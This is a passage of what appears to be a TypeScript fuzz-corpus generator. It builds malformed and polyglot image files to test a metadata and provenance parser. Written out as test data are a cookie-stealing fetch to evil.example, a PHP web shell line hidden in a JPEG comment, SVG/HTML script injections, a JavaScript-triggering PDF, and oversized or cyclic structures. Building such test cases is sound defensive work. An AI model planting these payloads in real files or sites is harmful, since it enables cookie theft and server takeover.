    { name: 'app11-after-sos', build: () => { const j = jpg(); const eoi = j.length - 2; return concat(j.subarray(0, eoi), ...app11(store()), j.subarray(eoi)); } },
    { name: 'app11-after-eoi', build: () => concat(jpg(), ...app11(store())) },
    { name: 'png-cabx-length-past-end', build: () => { const p = pngInsert(png(), [pngChunk('caBX', store())]); const c = pngChunks(p).find((x) => x.type === 'caBX')!; return patch(p, c.offset, be32(0x7ffffff0)); } },
    { name: 'png-cabx-twice', build: () => pngInsert(png(), [pngChunk('caBX', store()), pngChunk('caBX', store())]) },
    { name: 'png-cabx-after-iend', build: () => concat(png(), pngChunk('caBX', store())) },
    { name: 'png-cabx-before-ihdr', build: () => concat(PNG_SIGNATURE, pngChunk('caBX', store()), png().subarray(8)) },
    { name: 'webp-c2pa-chunk-random', build: () => webp(vp8x(0, 1, 1), VP8L_CHUNK, riffChunk('C2PA', jumb(C2PA_UUID, 'c2pa', rng(11).bytes(5000)))) },
    { name: 'heic-uuid-c2pa-random', build: () => heif({ brand: 'heic', tiff: cameraTiff(), trailer: box('uuid', [0xd8, 0xfe, 0xc3, 0xd6, 0x1b, 0x0e, 0x48, 0x3c, 0x92, 0x97, 0x58, 0x28, 0x87, 0x7e, 0xc4, 0x81], be32(0), 'manifest\0', be32(0), be32(0), be32(0), be32(0), jumb(C2PA_UUID, 'c2pa', rng(12).bytes(5000))) }) },
    { name: 'gif-with-c2pa-word', build: () => gifFrames(1, { extra: concat([0x21, 0xfe], gifSubBlocks(utf8.encode('c2pa jumb c2pa'))) }) },
    { name: 'jpeg-com-with-c2pa-word', build: () => jpegInsert(jpg(), jpegSegment(0xfe, 'c2pa jumb'.repeat(100))) },
    { name: 'bmp-with-jumb-box', build: () => concat(bmp(2, 2), store()) },
  );
  for (const [name, seed] of [['bing', bing], ['firefly', firefly]] as const) {
    for (const frac of [0.1, 0.5, 0.9, 0.99]) {
      out.push({
        name: `${name}-manifest-cut-at-${Math.round(frac * 100)}pct`,
        build: () => {
          const s = seed();
          const region = manifestRegions({ name, kind: name === 'bing' ? 'jpeg' : 'png', bytes: s })[0];
          const at = region.offset + Math.floor((region.end - region.offset) * frac);
          return concat(s.subarray(0, at), s.subarray(region.end));
        },
      });
    }
    out.push({
      name: `${name}-manifest-zeroed-second-half`,
      build: () => {
        const s = seed().slice();
        const region = manifestRegions({ name, kind: name === 'bing' ? 'jpeg' : 'png', bytes: s })[0];
        s.fill(0, (region.offset + region.end) >> 1, region.end);
        return s;
      },
    });
  }
  return out;
}

function polyglotCases(): CaseSpec[] {
  const jpg = () => seedNamed('camera-exif.jpg');
  const png = () => seedNamed('png-plain.png');
  const zip = () => {
    const name = 'evil.js';
    const data = utf8.encode('alert(document.cookie)');
    const local = concat([0x50, 0x4b, 0x03, 0x04], le16(10), le16(0), le16(0), le32(0), le32(crc32(data)), le32(data.length), le32(data.length), le16(name.length), le16(0), name, data);
    const central = concat([0x50, 0x4b, 0x01, 0x02], le16(20), le16(10), le16(0), le16(0), le32(0), le32(crc32(data)), le32(data.length), le32(data.length), le16(name.length), le16(0), le16(0), le16(0), le16(0), le32(0), le32(0), name);
    const end = concat([0x50, 0x4b, 0x05, 0x06], le16(0), le16(0), le16(1), le16(1), le32(central.length), le32(local.length), le16(0));
    return concat(local, central, end);
  };
  const html = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
  return [
    { name: 'jpeg-then-zip', build: () => concat(jpg(), zip()) },
    { name: 'zip-then-jpeg', build: () => concat(zip(), jpg()) },
    { name: 'png-then-html-after-iend', build: () => concat(png(), html) },
    { name: 'png-html-in-text-chunk', build: () => pngInsert(png(), [pngText('Comment', html)]) },
    { name: 'gif-then-zip', build: () => concat(GIF_1X1, zip()) },
    { name: 'jpeg-then-pdf', build: () => concat(jpg(), '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF') },
    { name: 'pdf-then-jpeg', build: () => concat('%PDF-1.4\n%âãÏÓ\n', jpg()) },
    { name: 'jpeg-php-in-com', build: () => jpegInsert(jpg(), jpegSegment(0xfe, '<?php system($_GET["c"]); ?>')) },
    { name: 'jpeg-magic-then-html', build: () => concat([0xff, 0xd8, 0xff, 0xe0], html) },
    { name: 'png-magic-then-html', build: () => concat(PNG_SIGNATURE, html) },
    { name: 'jpeg-twice', build: () => concat(jpg(), jpg()) },
    { name: 'png-then-jpeg', build: () => concat(png(), jpg()) },
    { name: 'jpeg-inside-png-text', build: () => pngInsert(png(), [pngText('Raw profile type exif', Buffer.from(jpg()).toString('latin1'))]) },
    { name: 'riff-webp-then-html', build: () => concat(WEBP_1X1_LOSSLESS, html) },
    { name: 'mp4-ftyp-isom', build: () => concat(box('ftyp', 'isom', be32(512), 'isomiso2avc1mp41'), box('mdat', rng(4).bytes(2000))) },
  ];
}

function svgCases(): CaseSpec[] {
  const svg = (inner: string, attrs = '') => `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="48"${attrs}>${inner}</svg>`;
  const cases: [string, Part][] = [
    ['script', svg('<script>alert(1)</script>')],
    ['xml-prolog-script', `<?xml version="1.0" encoding="UTF-8"?>\n${svg('<script type="text/javascript"><![CDATA[alert(document.domain)]]></script>')}`],
    ['onload', svg('<rect width="10" height="10"/>', ' onload="alert(1)"')],
    ['leading-whitespace', `\n\n   \t${svg('<script>alert(1)</script>')}`],
    ['utf8-bom', concat([0xef, 0xbb, 0xbf], svg('<script>alert(1)</script>'))],
    ['uppercase', svg('<script>alert(1)</script>').toUpperCase()],
    ['doctype-entities', `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg('&x;')}`],
    ['foreignobject-html', svg('<foreignObject width="64" height="48"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"></iframe></body></foreignObject>')],
    ['xlink-javascript', svg('<a xlink:href="javascript:alert(1)"><text y="20">refund</text></a>', ' xmlns:xlink="http://www.w3.org/1999/xlink"')],
    ['comment-first', `<!-- generated --> ${svg('<script>alert(1)</script>')}`],
    ['utf16le', Uint8Array.from(Buffer.from(`\uFEFF${svg('<script>alert(1)</script>')}`, 'utf16le'))],
  ];
  return [
    ...cases.map(([name, bytes]) => ({ name, build: () => concat(bytes) })),
    { name: 'svgz-gzip', build: () => new Uint8Array(gzipSync(svg('<script>alert(1)</script>'))) },
  ];
}

function heifCases(): CaseSpec[] {
  const out: CaseSpec[] = [];
  for (const brand of ['heic', 'avif'] as const) {
    const base = () => heif({ brand, tiff: cameraTiff() });
    const metaAt = (b: Uint8Array) => bmffBoxes(b).find((x) => x.type === 'meta')!;
    const boxAt = (b: Uint8Array, type: string) => bmffBoxes(b).find((x) => x.type === type);
    const withBoxSize = (type: string, size: number) => () => { const b = base(); const x = boxAt(b, type); return x ? patch(b, x.offset, be32(size)) : b; };
    const ftyp = box('ftyp', brand, be32(0), 'mif1', brand);
    const cases: [string, () => Uint8Array][] = [
      ['meta-size-past-end', withBoxSize('meta', 0x7ffffff0)],
      ['iprp-size-past-end', withBoxSize('iprp', 0x7ffffff0)],
      ['iloc-size-past-end', withBoxSize('iloc', 0x7ffffff0)],
      ['mdat-size-past-end', withBoxSize('mdat', 0xfffffff0)],
      ['meta-size-0-to-end', withBoxSize('meta', 0)],
      ['meta-size-4', withBoxSize('meta', 4)],
      ['ipco-size-1-no-room', withBoxSize('ipco', 1)],
      ['meta-size-1-xl-2e63', () => { const b = base(); const m = metaAt(b); return concat(b.subarray(0, m.offset), be32(1), 'meta', be64(0x7fffffffffffffffn), b.subarray(m.offset + 8)); }],
      ['meta-size-1-xl-8', () => { const b = base(); const m = metaAt(b); return concat(b.subarray(0, m.offset), be32(1), 'meta', be64(8n), b.subarray(m.offset + 8)); }],
      ['meta-size-1-xl-exact', () => { const b = base(); const m = metaAt(b); return concat(b.subarray(0, m.offset), be32(1), 'meta', be64(BigInt(m.end - m.offset + 8)), b.subarray(m.offset + 8)); }],
      ['ftyp-size-ffffffff', () => patch(base(), 0, be32(0xffffffff))],
      ['ftyp-size-4', () => patch(base(), 0, be32(4))],
      ['ftyp-size-0', () => patch(base(), 0, be32(0))],
      ['ftyp-only-no-meta', () => concat(ftyp, box('mdat', new Uint8Array(64)))],
      ['meta-nested-20000-deep', () => concat(ftyp, nestedBoxes('meta', 20000, new Uint8Array(4), fullBox('pitm', 0, 0, be16(1))))],
      ['ipco-nested-20000-deep', () => heif({ brand, tiff: cameraTiff(), ipco: nestedBoxes('ipco', 20000, new Uint8Array(0), fullBox('ispe', 0, 0, be32(64), be32(48))) })],
      ['dinf-nested-20000-deep', () => heif({ brand, tiff: cameraTiff(), extraMeta: [nestedBoxes('dinf', 20000, new Uint8Array(0), box('free'))] })],
      ['ipma-entries-ffffffff', () => heif({ brand, tiff: cameraTiff(), ipma: fullBox('ipma', 0, 0, be32(0xffffffff), be16(1), [1, 0x81]) })],
      ['ipma-association-count-255-past-end', () => heif({ brand, tiff: cameraTiff(), ipma: fullBox('ipma', 1, 1, be32(3), be32(1), [255, 0x80, 0x01]) })],
      ['ipma-points-to-missing-property', () => heif({ brand, tiff: cameraTiff(), ipma: fullBox('ipma', 0, 0, be32(1), be16(1), [2, 0xff, 0x7f]) })],
      ['iloc-extent-past-end', () => heif({ brand, tiff: cameraTiff(), iloc: () => fullBox('iloc', 0, 0, [0x44, 0x00], be16(2), be16(1), be16(0), be16(1), be32(0xfffffff0), be32(0xffff), be16(2), be16(0), be16(1), be32(0xfffffff0), be32(0xffffffff)) })],
      ['iloc-extent-count-65535', () => heif({ brand, tiff: cameraTiff(), iloc: () => fullBox('iloc', 0, 0, [0x44, 0x00], be16(2), be16(1), be16(0), be16(0xffff), be32(0), be32(16), be16(2), be16(0), be16(0xffff), be32(0), be32(16)) })],
      ['iloc-item-count-65535', () => heif({ brand, tiff: cameraTiff(), iloc: () => fullBox('iloc', 0, 0, [0x44, 0x00], be16(0xffff), be16(2), be16(0), be16(1), be32(0), be32(16)) })],
      ['iloc-base-offset-64bit-huge', () => heif({ brand, tiff: cameraTiff(), iloc: (eo, el) => fullBox('iloc', 1, 0, [0x88, 0x80], be16(1), be16(2), be16(0), be16(0), be64(0x7fffffffffffff00n), be16(1), be64(BigInt(eo)), be64(BigInt(el))) })],
      ['iloc-exif-points-into-meta', () => heif({ brand, tiff: cameraTiff(), iloc: () => fullBox('iloc', 0, 0, [0x44, 0x00], be16(1), be16(2), be16(0), be16(1), be32(20), be32(4000)) })],
      ['iloc-exif-length-0', () => heif({ brand, tiff: cameraTiff(), iloc: (eo) => fullBox('iloc', 0, 0, [0x44, 0x00], be16(1), be16(2), be16(0), be16(1), be32(eo), be32(0)) })],
      ['iinf-count-ffffffff', () => heif({ brand, tiff: cameraTiff(), iinf: fullBox('iinf', 1, 0, be32(0xffffffff), fullBox('infe', 2, 0, be16(2), be16(0), 'Exif', [0])) })],
      ['infe-truncated', () => heif({ brand, tiff: cameraTiff(), iinf: fullBox('iinf', 0, 0, be16(2), fullBox('infe', 2, 0, be16(2))) })],
      ['exif-header-offset-huge', () => { const b = heif({ brand, tiff: cameraTiff() }); return patch(b, tiffStart(b) - 10, be32(0xfffffff0)); }],
      ['exif-ifd-loop', () => heif({ brand, tiff: buildTiff([{ entries: [asciiEntry(TAG.Make, 'Apple'), ptrEntry(TAG.ExifIFD, { ifd: 0 })], next: { ifd: 0 } }]) })],
      ['5000-free-boxes', () => concat(ftyp, ...Array.from({ length: 5000 }, () => box('free')), heif({ brand, tiff: cameraTiff() }).subarray(ftyp.length))],
      ['two-meta-boxes', () => { const b = base(); const m = metaAt(b); return concat(b.subarray(0, m.end), b.subarray(m.offset, m.end), b.subarray(m.end)); }],
      ['pitm-item-65535', () => { const b = base(); const x = boxAt(b, 'pitm')!; return patch(b, x.offset + 12, be16(0xffff)); }],
      ['ftyp-brands-only-no-size', () => concat(be32(0), 'ftyp', brand)],
    ];
    for (const [name, build] of cases) out.push({ name: `${brand}-${name}`, build });
  }
  return out;
}

function animatedCases(): CaseSpec[] {
  const anmf = (w: number, h: number, frame: Uint8Array = VP8L_CHUNK) => riffChunk('ANMF', concat([0, 0, 0, 0, 0, 0], le32(w - 1).slice(0, 3), le32(h - 1).slice(0, 3), [0x64, 0, 0, 0], frame));
  const anim = riffChunk('ANIM', [0, 0, 0, 0, 0, 0]);
  return [
    { name: 'gif-netscape-loop-300-frames', build: () => gifFrames(300) },
    { name: 'gif-5000-frames', build: () => gifFrames(5000) },
    { name: 'gif-frame-65535-squared', build: () => gifFrames(2, { width: 65535, height: 65535 }) },
    { name: 'gif-truncated-mid-frame', build: () => gifFrames(3).subarray(0, 60) },
    { name: 'gif-no-trailer', build: () => gifFrames(3, { trailer: false }) },
    { name: 'gif-comment-1mb', build: () => gifFrames(1, { extra: concat([0x21, 0xfe], gifSubBlocks(new Uint8Array(1 << 20).fill(0x41))) }) },
    { name: 'gif-xmp-app-extension-html', build: () => gifFrames(1, { extra: concat([0x21, 0xff, 0x0b], 'XMP DataXMP', utf8.encode(xmpPacket(`xmp:CreatorTool="${escapeXml(HTML_PAYLOADS[0])}"`)), new Uint8Array(258).map((_, i) => (i < 256 ? 255 - i : 0))) }) },
    { name: 'gif-lzw-garbage', build: () => concat(gifFrames(1, { trailer: false }).subarray(0, 33), [0x02, 0xff], rng(5).bytes(255), [0x00, 0x3b]) },
    { name: 'gif-sub-block-runs-past-end', build: () => concat(gifFrames(1, { trailer: false }), [0x21, 0xfe, 0xff, 0x41]) },
    { name: 'webp-anim-50-frames', build: () => webp(vp8x(0x02, 1, 1), anim, ...Array.from({ length: 50 }, () => anmf(1, 1))) },
    { name: 'webp-anim-no-frames', build: () => webp(vp8x(0x02, 1, 1), anim) },
    { name: 'webp-anmf-past-end', build: () => { const b = webp(vp8x(0x02, 1, 1), anim, anmf(1, 1)); const c = riffChunks(b).find((x) => x.id === 'ANMF')!; return patch(b, c.offset + 4, le32(0x7ffffff0)); } },
    { name: 'webp-anmf-frame-16777216', build: () => webp(vp8x(0x02, 16777216, 16777216), anim, anmf(16777216, 16777216)) },
    { name: 'webp-anmf-nested-anmf', build: () => webp(vp8x(0x02, 1, 1), anim, anmf(1, 1, anmf(1, 1, anmf(1, 1)))) },
    { name: 'webp-riff-size-ffffffff', build: () => patch(WEBP_1X1_LOSSLESS, 4, le32(0xffffffff)) },
    { name: 'webp-riff-size-0', build: () => patch(WEBP_1X1_LOSSLESS, 4, le32(0)) },
    { name: 'webp-chunk-size-ffffffff', build: () => patch(WEBP_1X1_LOSSLESS, 16, le32(0xffffffff)) },
    { name: 'webp-chunk-size-odd-no-pad', build: () => concat('RIFF', le32(4 + 9 + 8), 'WEBP', 'EXIF', le32(9), 'abcdefghi', VP8L_CHUNK) },
    { name: 'webp-vp8x-all-flags', build: () => webp(vp8x(0xff, 1, 1), VP8L_CHUNK) },
    { name: 'webp-exif-ifd-loop', build: () => withExif('webp', buildTiff([{ entries: [asciiEntry(TAG.Make, 'Apple'), ptrEntry(TAG.ExifIFD, { ifd: 0 })], next: { ifd: 0 } }])) },
    { name: 'webp-exif-size-past-end', build: () => { const b = withExif('webp', cameraTiff()); const c = riffChunks(b).find((x) => x.id === 'EXIF')!; return patch(b, c.offset + 4, le32(0x7ffffff0)); } },
    { name: 'webp-exif-header-only', build: () => webp(vp8x(0x08, 1, 1), VP8L_CHUNK, riffChunk('EXIF', 'Exif\0\0')) },
    { name: 'webp-10000-unknown-chunks', build: () => webp(vp8x(0, 1, 1), ...Array.from({ length: 10000 }, () => riffChunk('ZZZZ', [])), VP8L_CHUNK) },
  ];
}

function htmlCases(): CaseSpec[] {
  const page = '<!DOCTYPE html><html><head><title>Login</title></head><body><form action="/login"><input name="password"></form><script>alert(1)</script></body></html>';
  const cases: [string, Part][] = [
    ['doctype', page],
    ['html-tag', '<html><body>Not Found</body></html>'],
    ['leading-whitespace', `\r\n\r\n   ${page}`],
    ['uppercase-doctype', page.toUpperCase()],
    ['head-only', '<head><meta http-equiv="refresh" content="0;url=https://evil.example"></head>'],
    ['body-only', '<body onload="alert(1)">image</body>'],
    ['utf8-bom', concat([0xef, 0xbb, 0xbf], page)],
    ['xml-prolog-xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`],
    ['json-error-body', '{"error":"AccessDenied","message":"Request has expired"}'],
    ['plain-text-404', '404 Not Found\n'],
    ['s3-xml-error', '<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>Access Denied</Message></Error>'],
    ['short-11-bytes', '<html></ht'],
    ['nul-padded-html', concat(new Uint8Array(16), page)],
    ['php', '<?php echo "<img src=x onerror=alert(1)>"; ?>'],
    ['html-1mb', `<html><body>${'<div>x</div>'.repeat(90_000)}</body></html>`],
  ];
  return cases.map(([name, bytes]) => ({ name, build: () => concat(bytes) }));
}

/** A ComfyUI graph whose conditioning links form cycles, with a sampler pointing into them. */
function comfyCycle(n: number): Record<string, { class_type: string; inputs: Record<string, unknown> }> {
  const graph: Record<string, { class_type: string; inputs: Record<string, unknown> }> = {};
  for (let i = 0; i < n; i++) {
    graph[String(i)] = { class_type: 'ConditioningCombine', inputs: { conditioning_1: [String((i + 1) % n), 0], conditioning_2: [String((i + 7) % n), 0], positive: [String((i + 3) % n), 0] } };
  }
  graph.s = { class_type: 'KSampler', inputs: { positive: ['0', 0] } };
  return graph;
}

function injectionCases(): [string, CaseSpec[]][] {
  const inject: CaseSpec[] = [];
  const long: CaseSpec[] = [];
  const jpg = () => seedNamed('plain.jpg');
  const png = () => seedNamed('png-plain.png');
  const exifJpeg = (ifd0: TiffEntry[], exif: TiffEntry[] = []) => jpegInsert(jpg(), exifApp1(buildTiff([{ entries: [...ifd0, ptrEntry(TAG.ExifIFD, { ifd: 1 })] }, { entries: [asciiEntry(TAG.DateTimeOriginal, '2025:11:20 10:15:00'), ...exif] }])));
  HTML_PAYLOADS.forEach((html, k) => {
    inject.push(
      { name: `exif-imagedescription-${k}`, build: () => exifJpeg([asciiEntry(TAG.ImageDescription, html)]) },
      { name: `exif-usercomment-ascii-${k}`, build: () => exifJpeg([], [userCommentAscii(html)]) },
      { name: `exif-usercomment-unicode-${k}`, build: () => exifJpeg([], [userCommentUnicode(html)]) },
      { name: `exif-camera-fields-${k}`, build: () => exifJpeg([asciiEntry(TAG.Make, html), asciiEntry(TAG.Model, html), asciiEntry(TAG.Software, `Midjourney ${html}`), asciiEntry(TAG.Artist, html)], [asciiEntry(TAG.LensModel, html)]) },
      { name: `exif-a1111-prompt-${k}`, build: () => exifJpeg([asciiEntry(TAG.ImageDescription, A1111(html))], [userCommentUnicode(A1111(html))]) },
      { name: `png-text-a1111-${k}`, build: () => pngInsert(png(), [pngText('parameters', A1111(html))]) },
      { name: `png-itxt-novelai-${k}`, build: () => pngInsert(png(), [pngText('Software', 'NovelAI'), pngItxt('Comment', JSON.stringify({ prompt: html })), pngText('Description', html)]) },
      { name: `png-comfyui-${k}`, build: () => pngInsert(png(), [pngText('prompt', JSON.stringify({ 1: { class_type: 'CLIPTextEncode', inputs: { text: html } }, 2: { class_type: 'KSampler', inputs: { positive: ['1', 0] } } }))]) },
      { name: `png-invokeai-dream-${k}`, build: () => pngInsert(png(), [pngText('Dream', `"${html}" -s 50 -S 42`)]) },
      { name: `png-ztxt-midjourney-${k}`, build: () => pngInsert(png(), [pngZtxt('Description', new Uint8Array(deflateSync(`${html} Job ID: 01234567-89ab-cdef-0123-456789abcdef`)))]) },
      { name: `xmp-creatortool-escaped-${k}`, build: () => jpegInsert(jpg(), xmpApp1(xmpPacket(`xmp:CreatorTool="${escapeXml(html)}" Iptc4xmpExt:DigitalSourceType="${escapeXml(html)}"`))) },
      { name: `xmp-cdata-${k}`, build: () => jpegInsert(jpg(), xmpApp1(xmpPacket('', `<xmp:CreatorTool><![CDATA[${html}]]></xmp:CreatorTool><Iptc4xmpExt:DigitalSourceType>${html}</Iptc4xmpExt:DigitalSourceType><photoshop:Credit>Made with Google AI ${html}</photoshop:Credit>`))) },
      { name: `jpeg-com-${k}`, build: () => jpegInsert(jpg(), jpegSegment(0xfe, html)) },
    );
  });
  const big = (n: number, prefix = '') => prefix + '<b>x</b>'.repeat(Math.ceil(n / 8)).slice(0, n - prefix.length);
  const N = 60_000;
  long.push(
    { name: 'exif-make-60k', build: () => exifJpeg([asciiEntry(TAG.Make, big(N)), asciiEntry(TAG.Model, 'Model')]) },
    { name: 'exif-model-60k', build: () => exifJpeg([asciiEntry(TAG.Make, 'Apple'), asciiEntry(TAG.Model, big(N))]) },
    { name: 'exif-lensmodel-60k', build: () => exifJpeg([asciiEntry(TAG.Make, 'Apple')], [asciiEntry(TAG.LensModel, big(N))]) },
    { name: 'exif-software-60k', build: () => exifJpeg([asciiEntry(TAG.Software, big(N, 'Midjourney '))]) },
    { name: 'exif-software-60k-screenshot', build: () => exifJpeg([asciiEntry(TAG.Software, big(N, 'Screenshot '))]) },
    { name: 'exif-artist-60k', build: () => exifJpeg([asciiEntry(TAG.Artist, big(N, 'DALL-E '))]) },
    { name: 'exif-imagedescription-60k-a1111', build: () => exifJpeg([asciiEntry(TAG.ImageDescription, A1111(big(N - 200)))]) },
    { name: 'exif-imagedescription-60k-midjourney', build: () => exifJpeg([asciiEntry(TAG.ImageDescription, `${big(N - 100)} Job ID: 01234567-89ab-cdef-0123-456789abcdef`)]) },
    { name: 'exif-usercomment-60k-a1111', build: () => exifJpeg([], [userCommentAscii(A1111(big(N - 200)))]) },
    { name: 'exif-datetimeoriginal-60k', build: () => exifJpeg([asciiEntry(TAG.Make, 'Apple')], [asciiEntry(TAG.DateTimeOriginal, `2025:11:20 10:15:00${big(N)}`)]) },
    { name: 'png-parameters-1mb', build: () => pngInsert(png(), [pngText('parameters', A1111(big(1 << 20)))]) },
    { name: 'png-parameters-negative-prompt-1mb', build: () => pngInsert(png(), [pngText('parameters', `short prompt\nNegative prompt: ${big(1 << 20)}\nSteps: 20, Sampler: Euler a`)]) },
    { name: 'png-comfyui-prompt-1mb', build: () => pngInsert(png(), [pngText('prompt', JSON.stringify({ 1: { class_type: 'CLIPTextEncode', inputs: { text: big(1 << 20) } }, 2: { class_type: 'KSampler', inputs: { positive: ['1', 0] } } }))]) },
    { name: 'png-comfyui-5000-encoders', build: () => pngInsert(png(), [pngText('prompt', JSON.stringify(Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [String(i), { class_type: 'CLIPTextEncode', inputs: { text: `prompt number ${i} ${HTML_PAYLOADS[i % HTML_PAYLOADS.length]}` } }]))))]) },
    { name: 'png-comfyui-cyclic-links', build: () => pngInsert(png(), [pngText('prompt', JSON.stringify(comfyCycle(2000)))]) },
    { name: 'png-comfyui-deep-json', build: () => pngInsert(png(), [pngText('prompt', `${'['.repeat(100_000)}${']'.repeat(100_000)}`)]) },
    { name: 'png-invokeai-dream-1mb-unclosed-quote', build: () => pngInsert(png(), [pngText('Dream', `"${'\\"'.repeat(500_000)}`)]) },
    { name: 'png-novelai-description-1mb', build: () => pngInsert(png(), [pngText('Software', 'NovelAI'), pngText('Description', big(1 << 20))]) },
    { name: 'png-software-1mb', build: () => pngInsert(png(), [pngText('Software', big(1 << 20, 'Stable Diffusion '))]) },
    { name: 'png-keyword-80k', build: () => pngInsert(png(), [pngChunk('tEXt', concat('k'.repeat(80_000), [0], 'v'))]) },
    { name: 'png-64-text-chunks-60k', build: () => pngInsert(png(), Array.from({ length: 64 }, (_, i) => pngText(['parameters', 'prompt', 'Description', 'Software'][i % 4], big(60_000)))) },
    { name: 'png-1000-text-chunks', build: () => pngInsert(png(), Array.from({ length: 1000 }, (_, i) => pngText(`k${i}`, HTML_PAYLOADS[i % HTML_PAYLOADS.length]))) },
    { name: 'jpeg-com-65k', build: () => jpegInsert(jpg(), jpegSegment(0xfe, big(65000))) },
    { name: 'jpeg-500-com-segments', build: () => jpegInsert(jpg(), ...Array.from({ length: 500 }, () => jpegSegment(0xfe, big(1000)))) },
  );
  return [
    ['inject', inject],
    ['long-strings', long],
  ];
}

function structureCases(): CaseSpec[] {
  const jpg = () => seedNamed('plain.jpg');
  const png = () => seedNamed('png-plain.png');
  const sofOf = (b: Uint8Array) => jpegSegments(b).find((s) => s.marker === 0xc0)!;
  const withSof = (edit: (b: Uint8Array, sof: JpegSeg) => Uint8Array) => () => { const b = jpg(); return edit(b, sofOf(b)); };
  const withSofMarker = (marker: number) => withSof((b, s) => patch(b, s.offset + 1, [marker]));
  return [
    { name: 'jpeg-5000-app-segments', build: () => jpegInsert(jpg(), ...Array.from({ length: 5000 }, () => jpegSegment(0xe5, 'x'))) },
    { name: 'jpeg-4000-sos-markers', build: () => { const b = jpg(); const eoi = b.length - 2; return concat(b.subarray(0, eoi), ...Array.from({ length: 4000 }, () => concat([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0x3f, 0], [0x00])), b.subarray(eoi)); } },
    { name: 'jpeg-double-soi', build: () => concat([0xff, 0xd8], jpg()) },
    { name: 'jpeg-garbage-between-segments', build: () => { const b = jpg(); const s = jpegSegments(b)[2]; return concat(b.subarray(0, s.offset), rng(6).bytes(500).map((x) => (x === 0xff ? 0 : x)), b.subarray(s.offset)); } },
    { name: 'jpeg-64k-fill-bytes', build: () => concat(jpg().subarray(0, 2), new Uint8Array(65536).fill(0xff), jpg().subarray(2)) },
    { name: 'jpeg-rst-flood', build: () => concat(jpg().subarray(0, 2), ...Array.from({ length: 20000 }, (_, i) => [0xff, 0xd0 + (i & 7)]), jpg().subarray(2)) },
    { name: 'jpeg-segment-length-0', build: () => { const b = jpg(); return patch(b, jpegSegments(b)[1].offset + 2, [0, 0]); } },
    { name: 'jpeg-segment-length-1', build: () => { const b = jpg(); return patch(b, jpegSegments(b)[1].offset + 2, [0, 1]); } },
    { name: 'jpeg-segment-length-ffff', build: () => { const b = jpg(); return patch(b, jpegSegments(b)[1].offset + 2, [0xff, 0xff]); } },
    { name: 'jpeg-no-eoi', build: () => jpg().subarray(0, jpg().length - 2) },
    { name: 'jpeg-no-sos', build: () => jpegWithout(jpg(), (s) => s.marker === 0xda) },
    { name: 'jpeg-no-dht', build: () => jpegWithout(jpg(), (s) => s.marker === 0xc4) },
    { name: 'jpeg-no-dqt', build: () => jpegWithout(jpg(), (s) => s.marker === 0xdb) },
    { name: 'jpeg-dht-garbage', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xc4)!; const r = rng(8); const out = b.slice(); for (let i = s.offset + 5; i < s.end; i++) out[i] = r.int(256); return out; } },
    { name: 'jpeg-dht-all-ff-counts', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xc4)!; return patch(b, s.offset + 5, new Array(16).fill(0xff)); } },
    { name: 'jpeg-dqt-zero-divisors', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xdb)!; return patch(b, s.offset + 5, new Array(64).fill(0)); } },
    { name: 'jpeg-dqt-table-id-15', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xdb)!; return patch(b, s.offset + 4, [0x1f]); } },
    { name: 'jpeg-sof-sampling-0x0', build: withSof((b, s) => patch(b, s.offset + 11, [0x00])) },
    { name: 'jpeg-sof-sampling-15x15', build: withSof((b, s) => patch(b, s.offset + 11, [0xff])) },
    { name: 'jpeg-sof-sampling-all-components-0', build: withSof((b, s) => { let out = b; for (let c = 0; c < b[s.offset + 9]; c++) out = patch(out, s.offset + 11 + 3 * c, [0x00]); return out; }) },
    { name: 'jpeg-sof-0-components', build: withSof((b, s) => patch(b, s.offset + 9, [0])) },
    { name: 'jpeg-sof-255-components', build: withSof((b, s) => patch(b, s.offset + 9, [255])) },
    { name: 'jpeg-sof-4-components-cmyk', build: withSof((b, s) => patch(b, s.offset + 9, [4])) },
    { name: 'jpeg-sof-precision-12', build: withSof((b, s) => patch(b, s.offset + 4, [12])) },
    { name: 'jpeg-sof-precision-0', build: withSof((b, s) => patch(b, s.offset + 4, [0])) },
    { name: 'jpeg-sof-quant-table-9', build: withSof((b, s) => patch(b, s.offset + 12, [9])) },
    { name: 'jpeg-sof2-progressive-marker', build: withSofMarker(0xc2) },
    { name: 'jpeg-sof3-lossless-marker', build: withSofMarker(0xc3) },
    { name: 'jpeg-sof9-arithmetic-marker', build: withSofMarker(0xc9) },
    { name: 'jpeg-sof15-marker', build: withSofMarker(0xcf) },
    { name: 'jpeg-two-sofs', build: () => { const b = jpg(); const s = sofOf(b); return concat(b.subarray(0, s.end), b.subarray(s.offset, s.end), b.subarray(s.end)); } },
    { name: 'jpeg-sos-unknown-component', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xda)!; return patch(b, s.offset + 5, [0x77]); } },
    { name: 'jpeg-sos-component-count-4', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xda)!; return patch(b, s.offset + 4, [4]); } },
    { name: 'jpeg-dri-interval-1', build: () => { const b = jpg(); const s = sofOf(b); return concat(b.subarray(0, s.offset), [0xff, 0xdd, 0, 4, 0, 1], b.subarray(s.offset)); } },
    { name: 'jpeg-scan-all-ff00', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xda)!; return concat(b.subarray(0, s.end), ...Array.from({ length: 30000 }, () => [0xff, 0x00]), [0xff, 0xd9]); } },
    { name: 'jpeg-scan-random-1mb', build: () => { const b = jpg(); const s = jpegSegments(b).find((x) => x.marker === 0xda)!; return concat(b.subarray(0, s.end), rng(10).bytes(1 << 20), [0xff, 0xd9]); } },
